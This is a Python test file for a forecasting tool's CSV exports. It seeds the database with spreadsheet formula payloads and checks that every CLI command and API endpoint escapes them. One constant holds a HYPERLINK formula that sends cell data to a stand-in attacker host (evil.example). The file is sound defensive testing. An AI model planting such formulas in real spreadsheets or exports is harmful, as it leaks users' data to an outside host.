"""Cells that a spreadsheet would run as formulas: no command and no question writes one to CSV."""

import csv
import io
import shutil
import sqlite3

import pytest
from hypothesis import given
from hypothesis import strategies as st
from installation import Installation
from web_server import Web

from candlecast.output import write_csv

SERIES = "Coinbase_BTCUSD_d"
EVIL = '=HYPERLINK("http://evil.example/?"&A1)'
# Characters that Excel, LibreOffice and Google Sheets take for the start of a formula.
STARTS = "=+-@＝＋－＠\t\r\n"


@pytest.fixture(scope="module")
def poisoned(daily_done, tmp_path_factory):
    """An installation in which every free text begins like a formula."""
    installation = Installation(tmp_path_factory.mktemp("poisoned"), daily_done.prefect_home)
    shutil.copy(daily_done.database, installation.database)
    with sqlite3.connect(installation.database) as conn:
        conn.execute("UPDATE findings SET message = ?, remedy = ?, code = ?", (EVIL, "+1", "@x"))
        conn.execute("UPDATE model_versions SET device = ?, code_version = ?", (EVIL, "-2+3"))
        conn.execute(
            "INSERT INTO series (name, exchange, pair, interval, base, quote, created_at) "
            "VALUES (?, ?, '@pair', '\td', 'a', 'b', '2020-01-01 00:00:00.000000')",
            (EVIL, "+exchange"),
        )
        conn.execute(
            "INSERT INTO promotions (series, model_version, decided_at, outcome, reason, evidence) "
            "SELECT series, model_version, decided_at, 'kept', ?, '{}' FROM promotions LIMIT 1",
            (EVIL,),
        )
        # A model whose name is a formula, with forecasts and scores.
        conn.execute(
            "INSERT INTO forecasts SELECT id + 1000000, series, ?, model_version, origin, kind, created_at, "
            "data_fingerprint, flow_run FROM forecasts WHERE model = 'naive'",
            (EVIL,),
        )
        for table in ("forecast_values", "scores"):
            columns = [row[1] for row in conn.execute(f"PRAGMA table_info({table})")][1:]
            conn.execute(
                f"INSERT INTO {table} SELECT forecast + 1000000, {', '.join(columns)} FROM {table} "
                f"WHERE forecast IN (SELECT id - 1000000 FROM forecasts WHERE model = ?)",
                (EVIL,),
            )
    conn.close()
    return installation


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would run as formulas; numbers are not among them."""

    def runs(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return cell[:1] in tuple(STARTS) or cell.strip()[:1] in tuple(STARTS)
        return False

    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if runs(cell)]


COMMANDS = {
    "series": ("series",),
    "candles": ("candles", SERIES),
    "forecasts": ("forecasts", "--model", EVIL),
    "hub": ("forecasts", "--format", "hub"),
    "skill": ("skill",),
    "reliability": ("skill", SERIES, "--reliability"),
    "chance": ("chance", SERIES, "--below", "8000"),
    "paths": ("paths", SERIES),
    "models": ("models",),
    "findings": ("findings",),
}
WITHOUT_FREE_TEXT = {"candles", "hub", "chance", "paths"}


@pytest.mark.parametrize("name", COMMANDS)
def test_no_command_exports_a_formula(poisoned, name, tmp_path):
    arguments = (*COMMANDS[name], *(() if name == "hub" else ("--format", "csv")))
    done = poisoned.run(*arguments)
    assert done.returncode == 0, done.stderr
    assert len(done.stdout.splitlines()) > 1
    assert formula_cells(done.stdout) == []
    assert ("'=HYPERLINK" in done.stdout) == (name not in WITHOUT_FREE_TEXT)
    assert poisoned.run(*arguments, "-o", str(tmp_path / "out.csv")).returncode == 0
    assert (tmp_path / "out.csv").read_text() == done.stdout


@pytest.fixture(scope="module")
def web(poisoned):
    with Web(poisoned) as running:
        yield running


QUESTIONS = [
    "series", "models", "decisions", "findings", "skill", "calibration", "forecasts", "forecasts/latest", "origins",
    f"candles?series={SERIES}", "arrivals", f"chance?series={SERIES}&below=8000", f"reliability?series={SERIES}",
    f"paths?series={SERIES}", "glance",
]  # fmt: skip


@pytest.mark.parametrize("question", QUESTIONS)
def test_no_answer_of_the_api_contains_a_formula(web, question):
    limit = "" if question in ("skill", "calibration", "forecasts/latest") else "limit=10000&"
    answer = web.get(f"/api/v1/{question}{'&' if '?' in question else '?'}{limit}format=csv")
    assert answer.status_code == 200
    assert len(answer.text.splitlines()) > 1
    assert formula_cells(answer.text) == []
    without = {"forecasts/latest", "candles", "arrivals", "chance", "paths"}
    assert ("'=HYPERLINK" in answer.text) == (question.split("?")[0] not in without)


def test_every_collection_of_the_api_is_requested_here(web):
    paths = [path for path in web.get("/openapi.json").json()["paths"] if path.startswith("/api/v1/")]
    assert sorted(paths) == sorted(f"/api/v1/{question.split('?')[0]}" for question in QUESTIONS)


def test_json_and_numbers_stay_as_they_are(poisoned):
    assert "'=" not in poisoned.run("findings", "--json").stdout
    text = io.StringIO()
    write_csv(["a", "b"], [{"a": -1.5, "b": None}], text)
    assert text.getvalue() == "a,b\n-1.5,\n"


@given(st.text(alphabet=st.sampled_from(list("=+-@＝＋－＠\t\r\n \u00a0\ufeff'\"a1,;")), max_size=12))
def test_no_text_becomes_a_formula_and_none_is_lost(text):
    out = io.StringIO()
    write_csv(["cell"], [{"cell": text}], out)
    assert formula_cells(out.getvalue()) == []
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert (rows[0] if rows[0] else [""])[0] in (text, f"'{text}")
